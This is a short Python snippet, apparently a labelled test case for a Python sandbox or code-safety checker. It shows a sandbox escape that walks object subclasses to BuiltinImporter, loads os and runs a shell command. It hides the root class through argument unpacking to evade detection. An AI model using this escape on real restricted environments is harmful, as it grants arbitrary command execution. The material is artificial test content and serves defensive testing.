# HARM: object-graph escape to os via BuiltinImporter -> os.system | TRICK: walk(cls=Base) helper called through *args unpacking with object
class Base:
    pass


def walk(cls=Base):
    for sub in cls.__subclasses__():
        yield sub
        yield from walk(sub)


for c in walk(*[object]):
    if c.__name__ == "BuiltinImporter":
        c.load_module("os").system("id")
